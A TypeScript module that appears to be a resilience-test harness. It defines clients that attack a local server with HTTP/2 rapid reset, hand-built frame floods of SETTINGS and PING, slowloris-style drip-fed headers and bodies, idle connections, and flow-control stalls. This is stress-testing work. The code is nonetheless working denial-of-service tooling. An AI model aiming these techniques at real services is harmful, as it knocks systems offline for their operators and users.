/** Clients as no server wants them. Each goes on until it is disposed, and none ever fails: being cut off is what it is for. */
import http2, { type ClientHttp2Session } from 'node:http2';
import { connect as connectTcp, type Socket } from 'node:net';
import { connect as connectTls, type TLSSocket } from 'node:tls';

/** A server to misbehave against. */
export interface Victim {
  readonly url: string;
  readonly port: number;
  readonly ca: string;
  /** Bearer token of the user who misbehaves. */
  readonly token: string;
  /** A collection with a lot in it, which that user may list, watch and add to. */
  readonly collection: string;
}

/** One way to misbehave. */
export interface Misbehaviour {
  readonly name: string;
  /** One client begins. */
  begin(victim: Victim): Disposable;
}

/** Streams each client opens where it opens many. */
const streamsEach = 20;
/** Where they come from: an address of their own, as those of a good client are not theirs. */
const localAddress = '127.0.0.2';
/** Connections each client opens where it opens many. */
const connectionsEach = 10;
/** How often what is sent drop by drop, or again and again, is sent. */
const dropEveryMs = 50;

function ignore(): void {
  // Whatever happens to a client that misbehaves is right.
}

function openTcp({ port }: Victim): Socket {
  return connectTcp({ host: '127.0.0.1', localAddress, port }).on('error', ignore);
}

function openTls(victim: Victim, protocol: 'h2' | 'http/1.1'): TLSSocket {
  const socket = connectTls({
    socket: openTcp(victim),
    host: '127.0.0.1',
    ca: victim.ca,
    ALPNProtocols: [protocol],
  });
  return socket.on('error', ignore);
}

/** Sends the same again and again, starting when the connection stands. */
function dripping(socket: TLSSocket, first: string | Buffer, drop: string | Buffer): Disposable {
  socket.once('secureConnect', () => socket.write(first));
  const timer = setInterval(() => socket.writable && socket.write(drop), dropEveryMs);
  return {
    [Symbol.dispose]: () => {
      clearInterval(timer);
      socket.destroy();
    },
  };
}

function openSession(victim: Victim): ClientHttp2Session {
  // Ready to take a gigabyte, so that nothing but reading holds the server back.
  const createConnection = () => openTls(victim, 'h2');
  const session = http2.connect(victim.url, { createConnection, settings: { initialWindowSize: 2 ** 30 } });
  session.once('connect', () => session.setLocalWindowSize(2 ** 30));
  return session.on('error', ignore);
}

/** Asks for the same again and again, and takes all it gets. */
function asking(victim: Victim, path: string): Disposable {
  const session = openSession(victim);
  let isOver = false;
  const ask = () => {
    if (isOver || session.destroyed || session.closed) return;
    const stream = session.request({ ':path': path, authorization: `Bearer ${victim.token}` });
    stream.on('error', ignore).on('close', ask).resume();
  };
  for (let index = 0; index < streamsEach; index++) ask();
  return {
    [Symbol.dispose]: () => {
      isOver = true;
      session.destroy();
    },
  };
}

/** Frames of HTTP/2 (RFC 9113). */
const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';

function frame(type: number, flags: number, stream: number, payload: Uint8Array = new Uint8Array()): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.byteLength, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const settingsFrame = frame(4, 0, 0);
const greeting = Buffer.concat([Buffer.from(preface), settingsFrame]);

function repeated(one: Buffer, count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => one));
}

/** The head of a GET, by the static table of HPACK and three literals (RFC 7541). */
function getFrame({ token }: Victim, path: string, stream: number): Buffer {
  const block = Buffer.concat([
    Buffer.from([0x82, 0x87]),
    literal(4, path),
    literal(1, 'x'),
    literal(23, `Bearer ${token}`),
  ]);
  return frame(1, 5, stream, block);
}

/** A header of the static table with another value. */
function literal(index: number, value: string): Buffer {
  const bytes = Buffer.from(value);
  const name = index < 15 ? [index] : [15, index - 15];
  // What does not fit into seven bits goes on in further bytes.
  const length: number[] = [Math.min(bytes.byteLength, 127)];
  for (let rest = bytes.byteLength - 127; rest >= 0 && bytes.byteLength >= 127; rest >>= 7) {
    length.push(rest > 127 ? (rest & 127) | 128 : rest);
    if (rest <= 127) break;
  }
  return Buffer.concat([Buffer.from([...name, ...length]), bytes]);
}

/** Streams that are opened and given up at once. */
function rapidReset(victim: Victim): Disposable {
  const socket = openTls(victim, 'h2').resume();
  let stream = -1;
  const burst = () =>
    Buffer.concat(
      Array.from({ length: 100 }, () => {
        stream += 2;
        return Buffer.concat([
          getFrame(victim, victim.collection, stream),
          frame(3, 0, stream, Buffer.from([0, 0, 0, 8])),
        ]);
      }),
    );
  socket.once('secureConnect', () => socket.write(greeting));
  const timer = setInterval(() => socket.writable && socket.write(burst()), dropEveryMs);
  return {
    [Symbol.dispose]: () => {
      clearInterval(timer);
      socket.destroy();
    },
  };
}

/** Asks for much, says that there is room for a gigabyte of it, and then reads nothing from the connection. */
function takingNothing(victim: Victim, path: string): Disposable {
  const socket = openTls(victim, 'h2');
  const room = Buffer.from([0x40, 0, 0, 0]);
  const settings = frame(4, 0, 0, Buffer.concat([Buffer.from([0, 4]), room]));
  const asked = Array.from({ length: streamsEach }, (_, index) => getFrame(victim, path, 2 * index + 1));
  socket.once('secureConnect', () => {
    socket.write(Buffer.concat([Buffer.from(preface), settings, frame(8, 0, 0, room), ...asked]));
    socket.pause();
  });
  return { [Symbol.dispose]: () => socket.destroy() };
}

/** Frames that ask for an answer each, and nobody who reads the answers. */
function flooding(victim: Victim, flood: Buffer): Disposable {
  const socket = openTls(victim, 'h2');
  socket.pause();
  return dripping(socket, greeting, repeated(flood, 500));
}

function halfRequest({ collection, token }: Victim, method: string, more: string): string {
  return `${method} ${collection} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\n${more}`;
}

/** All of them. */
export const misbehaviours: readonly Misbehaviour[] = [
  {
    name: 'readers of lists that take nothing',
    begin: (victim) => takingNothing(victim, victim.collection),
  },
  {
    name: 'watchers that take nothing',
    begin: (victim) => takingNothing(victim, `${victim.collection}?watch=true`),
  },
  {
    name: 'lists of everything, again and again',
    begin: (victim) => asking(victim, victim.collection),
  },
  {
    name: 'watches that end at once, again and again',
    begin: (victim) => asking(victim, `${victim.collection}?watch=true&resourceVersion=1&timeoutSeconds=1`),
  },
  {
    name: 'headers that come drop by drop',
    begin: (victim) => dripping(openTls(victim, 'http/1.1'), halfRequest(victim, 'GET', ''), 'a: b\r\n'),
  },
  {
    name: 'bodies that come drop by drop',
    begin: (victim) => {
      const more = 'content-type: application/json\r\ncontent-length: 3000000\r\n\r\n';
      return dripping(
        openTls(victim, 'http/1.1'),
        halfRequest(victim, 'POST', more) + ' '.repeat(200_000),
        ' '.repeat(1_000),
      );
    },
  },
  {
    name: 'connections that say nothing',
    begin(victim) {
      const sockets = Array.from({ length: connectionsEach }, () => openTcp(victim));
      return { [Symbol.dispose]: () => sockets.forEach((socket) => socket.destroy()) };
    },
  },
  {
    name: 'connections that ask nothing',
    begin(victim) {
      const socket = openTls(victim, 'h2');
      return { [Symbol.dispose]: () => socket.destroy() };
    },
  },
  { name: 'streams that are reset at once', begin: rapidReset },
  { name: 'settings without end', begin: (victim) => flooding(victim, settingsFrame) },
  { name: 'pings without end', begin: (victim) => flooding(victim, frame(6, 0, 0, Buffer.alloc(8))) },
];

/** @throws {Error} with the names there are when none is called so. */
export function misbehaviourNamed(name: string): Misbehaviour {
  const found = misbehaviours.find((one) => one.name === name);
  if (found !== undefined) return found;
  const names = misbehaviours.map((one) => JSON.stringify(one.name)).join(', ');
  throw new Error(`Unknown misbehaviour ${JSON.stringify(name)}: there are ${names}`);
}
